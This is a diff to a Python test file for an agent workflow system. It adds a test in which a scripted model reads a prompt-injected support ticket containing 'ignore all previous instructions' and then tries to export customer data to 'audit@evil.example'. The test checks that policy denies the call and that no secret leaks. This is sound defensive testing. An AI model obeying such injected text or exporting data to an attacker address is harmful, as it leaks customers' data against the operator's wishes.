@@ -45,9 +45,12 @@ from activities.policy import build_engine
 from activities.schema import upgrade
 from baton.devstack import local
 from baton.settings import REPO_ROOT, Settings
+from tests.conftest import _harness
 from tests.support.mcp_calls_workflow import AgentToolCallsTestWorkflow, McpToolCallsTestWorkflow
+from tests.support.scripted_model import Fault, ScriptedModelServer
+from workflows.agent_loop import AgentRunWorkflow
 from workflows.contracts_mcp import McpCaller, McpToolCall, McpToolOutcome
-from workflows.contracts_tools import ToolCallInput, ToolPrincipal
+from workflows.contracts_tools import AgentRunInput, ToolCallInput, ToolPrincipal
 
 ENV_VAR = "BATON_TEST_CRM_KEY"
 TIMEOUT_S = 3.0
@@ -250,7 +253,8 @@ async def test_a_failing_tool_and_a_hanging_tool_come_back_as_readable_errors(
     elapsed = time.monotonic() - started
     assert hung.is_error and hung.error_kind == "timeout"
     assert f"did not answer within {TIMEOUT_S:g} s" in hung.text
-    assert TIMEOUT_S - 0.5 < elapsed < TIMEOUT_S + 5  # stopped at its timeout, not hung
+    # stopped at its timeout (plus the time a stdio server takes to start), not hung
+    assert TIMEOUT_S - 0.5 < elapsed < TIMEOUT_S + 15
 
     # the server is still usable afterwards
     after = await toolbox.call("crm", "lookup_customer", {"customer_id": "C-2"})
@@ -536,6 +540,67 @@ async def test_agent_tool_path_refuses_the_injected_sensitive_call(
         assert "Grace Hopper" in history and secret not in history
     finally:
         await runtime.close()
+
+
+async def test_agent_loop_refuses_the_sensitive_tool_an_injected_ticket_asks_for(
+    temporal_client: Client,
+    model_server: ScriptedModelServer,
+    transport: str,
+    http_server: str,
+    effects_dir: Path,
+    secret: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The real agent loop (AgentRunWorkflow) with the scripted model: the model reads the
+    injected ticket and then does what it says, calling export_customers. Policy refuses the
+    call, the model is told so and finishes; nothing is exported, the audit shows the attempt,
+    and the credential is nowhere in the run's history or audit rows."""
+    path = tmp_path / "mcp.json"
+    path.write_text(json.dumps(server_config(transport, http_server, effects_dir, sha256(secret))))
+    monkeypatch.setenv(ENV_VAR, secret)
+    agent = "crm_assistant"
+    model_server.script(
+        Fault.tool_calls(("mcp__crm__read_ticket", {"ticket_id": "T-9"})),
+        Fault.tool_calls(("mcp__crm__export_customers", {"destination": "audit@evil.example"})),
+        Fault.tool_calls(("final_answer", {"answer": "The ticket is about a wrong invoice."})),
+        match=f"agent: {agent}",
+    )
+    async with _harness(
+        temporal_client, model_server, f"sqlite:///{tmp_path / 'b.db'}", mcp_config=path
+    ) as h:
+        inp = AgentRunInput(
+            run_key=f"crm-{uuid.uuid4().hex[:8]}",
+            agent=agent,
+            tenant=h.tenant,
+            requested_by="alice",
+            task={"ticket_id": "T-9"},
+        )
+        wid = f"agent-run-{inp.run_key}"
+        async with h.worker():
+            async with asyncio.timeout(120):
+                result = await h.temporal.execute_workflow(
+                    AgentRunWorkflow.run, inp, id=wid, task_queue=h.client.task_queue
+                )
+        assert result.output == {"answer": "The ticket is about a wrong invoice."}
+        assert (result.tool_calls, result.denials) == (1, 1)
+        turns = model_server.turns(agent)
+        shown = [[str(m.get("content")) for m in t if m.get("role") == "tool"] for t in turns]
+        assert "ignore all previous instructions" in shown[1][0]
+        assert shown[2][-1] == (
+            "policy denied the call of mcp__crm__export_customers: 'mcp:crm/export_customers' "
+            "is a sensitive tool and this run read untrusted content (from mcp:crm/read_ticket): "
+            "refused"
+        )
+        assert effects(effects_dir, transport) == []
+        rows = h.runtime.ledger.trail(wid)
+        denied = [json.loads(r.detail_json) for r in rows if r.action == "policy.deny"]
+        assert [d["subject"] for d in denied] == ["mcp__crm__export_customers"]
+        assert "mcp.result_flagged" in [r.action for r in rows]
+        assert secret not in json.dumps([r.model_dump(mode="json") for r in rows])
+        history = await Governed(h.temporal, h.runtime.ledger, h.runtime.mcp).history(wid)
+        assert "Grace Hopper" not in history and "wrong invoice" in history
+        assert secret not in history
 
 
 def runtime_payload(runtime: Any, ref: Any) -> str:
